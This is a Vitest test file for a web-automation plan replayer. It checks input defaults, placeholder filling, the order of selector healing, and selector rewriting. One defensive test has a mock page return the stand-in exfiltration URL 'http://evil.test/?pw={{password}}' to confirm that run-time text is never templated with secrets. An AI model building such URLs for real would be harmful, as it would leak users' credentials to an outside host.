// Plan inputs, the heal selector order and --update-plan's rewrite.
import { describe, expect, it } from 'vitest';
import { planInputs } from '../../../host/replay/inputs.js';
import { evaluatePlan } from '../../../host/rtfs/index.js';
import { rewriteSelectors } from '../../../host/replay/update-plan.js';
import { healSelectors } from '../../../sidecar/fingerprint-match.js';

describe('plan inputs', () => {
  const plan = ';; webcap:exported-plan\n;; input city = "Lyon"\n;; input password (required)\n(call :web.fill {:selector "#c" :text "{{city}}"})\n(call :web.fill {:selector "#p" :text "{{password}}"})';

  it('a missing required input fails before any call, naming the flag to pass', () => {
    expect(() => planInputs(plan, {})).toThrowError(expect.objectContaining({ code: 'invalid_params', message: expect.stringMatching(/needs the input "password": give each with --input NAME=VALUE/) }));
  });

  it('defaults come from the header; --input wins', () => {
    expect(planInputs(plan, { password: 'pw' })).toEqual({ city: 'Lyon', password: 'pw' });
    expect(planInputs(plan, { password: 'pw', city: 'Nice' }).city).toBe('Nice');
  });

  it('fills placeholders inside string literals at any depth and leaves other strings alone', async () => {
    const got = await evaluatePlan('{:text "in {{city}}!" :list ["{{city}}" "x"] :n 3 :kept "\\{{city}}"}', { call: async () => null, inputs: { city: 'Lyon' } });
    expect(got).toEqual({ text: 'in Lyon!', list: ['Lyon', 'x'], n: 3, kept: '{{city}}' });
  });

  it('never fills a string the plan got at run time (a page text is not a template)', async () => {
    const seen: unknown[] = [];
    const call = async (_id: string, params: Record<string, unknown>) => { seen.push(params); return { href: 'http://evil.test/?pw={{password}}' }; };
    await evaluatePlan('(let [r (call :web.extract {:selector "a"})] (call :web.navigate {:url (get r :href)}))', { call, inputs: { password: 'hunter2' } });
    expect(seen[1]).toEqual({ url: 'http://evil.test/?pw={{password}}' });
  });
});

describe('heal order', () => {
  it('role + name, label, placeholder, name attribute, text, CSS path', () => {
    const order = healSelectors({ role: 'textbox', name: 'Email', label: 'Email', placeholder: 'you@x', name_attr: 'mail', tag: 'input', text: 'Email', css: 'form > input:nth-of-type(2)' });
    expect(order.map((s) => s.feature)).toEqual(['role+name', 'label', 'placeholder', 'name', 'text', 'css_path']);
    expect(order[0]!.selector).toBe('role=textbox[name="Email"s]');
  });

  it('skips generic roles and cut text (which would never match exactly)', () => {
    const order = healSelectors({ role: 'generic', name: 'x', text: 'a very long text…', css: 'div' });
    expect(order.map((s) => s.feature)).toEqual(['css_path']);
  });
});

describe('--update-plan rewrite', () => {
  const source = '(do\n  (call :web.wait {:selector "#go"})\n  (call :web.click {:selector "#go"} {:heal true :fingerprint {:css "#go"}})\n  (call :web.click {:selector "#go"}))\n';

  it('replaces the selector only in the healed forms, never in the fingerprint', () => {
    const out = rewriteSelectors(source, [
      { line: 2, column: 3, capability: 'web.wait', old_selector: '#go', new_selector: 'role=button[name="Go"s]', feature: 'role+name' },
      { line: 3, column: 3, capability: 'web.click', old_selector: '#go', new_selector: 'role=button[name="Go"s]', feature: 'role+name' },
    ]);
    expect(out).toBe('(do\n  (call :web.wait {:selector "role=button[name=\\"Go\\"s]"})\n  (call :web.click {:selector "role=button[name=\\"Go\\"s]"} {:heal true :fingerprint {:css "#go"}})\n  (call :web.click {:selector "#go"}))\n');
  });
});
